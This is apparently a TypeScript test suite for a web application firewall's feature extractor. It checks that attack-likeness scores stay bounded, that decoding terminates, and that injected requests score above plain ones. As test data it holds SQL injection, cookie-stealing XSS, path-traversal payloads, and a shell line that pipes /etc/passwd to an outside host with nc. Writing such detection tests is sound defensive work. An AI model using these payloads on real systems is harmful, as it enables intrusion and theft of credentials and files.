import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import lexiconData from '../../../model/lexicon.json' with { type: 'json' };
import { FEATURES } from '../../../model/schema.ts';
import { Inspection } from '../../../src/edge/inspect.ts';
import { extractFeatures, setReputation } from '../../../src/edge/score/features.ts';
import { Lexicon } from '../../../src/edge/score/lexicon.ts';
import { reveal } from '../../../src/edge/score/reveal.ts';
import { viewExample } from '../../../src/edge/waf/check-ruleset.ts';
import { compileRuleset } from '../../../src/edge/waf/compile.ts';
import { prepareRuleset } from '../../../src/edge/waf/prepare-ruleset.ts';

const NO_WAF = { matches: [], score: 0, blocking: false };
const NO_BOT = { score: 0, signals: [] };

function featuresOf(example: Parameters<typeof viewExample>[0]) {
  const vector = extractFeatures(viewExample(example), NO_WAF, NO_BOT);
  return Object.fromEntries(FEATURES.map((name, i) => [name, vector[i]!]));
}

test('every feature stays within 0 and 1, whatever comes', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.dictionary(fc.stringMatching(/^[a-z-]{1,12}$/), fc.string({ maxLength: 60 })),
      fc.nat(1000),
      fc.double({ min: 0, max: 1, noNaN: true }),
      (path, body, headers, score, bot) => {
        const view = viewExample({ path: `/${path}`, body, headers });
        const features = extractFeatures(view, { ...NO_WAF, score }, { score: bot, signals: [] });
        setReputation(features, { score: bot, signals: [] });
        expect(features.length).toBe(FEATURES.length);
        for (const value of features) expect(value >= 0 && value <= 1).toBe(true);
      },
    ),
    { numRuns: 300 },
  );
});

test.each([
  ['sql_likeness', "1' union select 1,version(),3 from information_schema.tables-- "],
  ['markup_likeness', '"><img src=x onerror=alert(document.cookie)>'],
  ['shell_likeness', ';cat /etc/passwd|nc 203.0.113.9 4444'],
  ['path_likeness', '../../../../../../etc/passwd'],
])('%s knows its attack from a plain word', (name, payload) => {
  const attack = featuresOf({ path: `/search?q=${encodeURIComponent(payload)}` })[name]!;
  const plain = featuresOf({ path: '/search?q=red+shoes' })[name]!;
  expect(attack).toBeGreaterThan(plain + 0.3);
});

test('an attack reads the same under further encodings, and the layers are told', () => {
  const payload = '"><script>alert(1)</script>';
  const twice = encodeURIComponent(encodeURIComponent(payload));
  const plain = featuresOf({ path: `/?q=${encodeURIComponent(payload)}` });
  const hidden = featuresOf({ path: `/?q=${twice}` });
  expect(hidden['markup_likeness']).toBe(plain['markup_likeness']);
  expect(hidden['encoding_depth']).toBeGreaterThan(plain['encoding_depth']!);
});

test('an attack at the end of a long text is found as in a short one', () => {
  const payload = '<script>alert(document.cookie)</script>';
  const long = `${'The quick brown fox likes honest prose. '.repeat(1500)}${payload}`;
  const found = featuresOf({
    body: `text=${encodeURIComponent(long)}`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });
  expect(found['markup_likeness']).toBeGreaterThan(0.5);
});

test('revealing never throws and ends after a bounded number of layers', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('%', '2', '5', 'u', '&', '#', 'x', ';', '\\', '0', '\xc0', 'a', '+') }),
      (text) => {
        expect(reveal(text).layers).toBeLessThanOrEqual(5);
      },
    ),
  );
});

test('a body made of signs costs no more tokens than the budget, and what stands first is weighed all the same', () => {
  const attack = '{"a":"1 union select password from users","b":[';
  const read: number[] = [];
  class Counting extends Lexicon {
    override score(...args: Parameters<Lexicon['score']>): number {
      const tokens = super.score(...args);
      read.push(tokens);
      return tokens;
    }
  }
  const extract = (body: string) => {
    const headers = { 'content-type': 'application/json' };
    const request = viewExample({ method: 'POST', path: '/', headers, body });
    return extractFeatures(request, NO_WAF, NO_BOT, new Counting(lexiconData));
  };
  const short = extract(`${attack}"x"]}`);
  read.length = 0;
  const long = extract(`${attack}"${"'=".repeat(60_000)}"]}`);
  expect(read.reduce((sum, tokens) => sum + tokens, 0)).toBeLessThan(34_000);
  const sql = FEATURES.indexOf('sql_likeness');
  expect(long[sql]).toBeGreaterThanOrEqual(short[sql]!);
});

test('what a ruleset that weighs finds fills its inputs: eight critical rules, and two that agree with the lexicon', () => {
  const path = `/search?q=${encodeURIComponent("1' union select 1,version(),3 from information_schema.tables-- ")}`;
  const weigh = (count: number, category: 'sqli' | 'protocol') => {
    const rules = Array.from({ length: count }, (_, i) => ({
      ...({ id: `weighs-${i}`, name: 'weighs', category, severity: 'critical', score: 100, action: 'log' } as const),
      targets: [{ collection: 'ARGS' } as const],
      transformations: [],
      operator: { name: 'contains', text: 'union' } as const,
      tags: [],
      examples: { match: [], noMatch: [] },
    }));
    const ruleset = compileRuleset(prepareRuleset({ name: 'crs', version: '1', rules }));
    const view = viewExample({ path });
    const waf = new Inspection([{ name: 'crs', mode: 'weigh', ruleset }], view).result;
    const vector = extractFeatures(view, waf, NO_BOT);
    return Object.fromEntries(FEATURES.map((name, i) => [name, vector[i]!]));
  };
  expect(weigh(8, 'sqli')['weighed_score']).toBe(1);
  const two = weigh(2, 'sqli');
  expect(two['weighed_score']).toBe(0.5);
  expect(two['weighed_agreement']).toBe(two['sql_likeness']);
  expect(weigh(2, 'protocol')['weighed_agreement']).toBe(0);
});
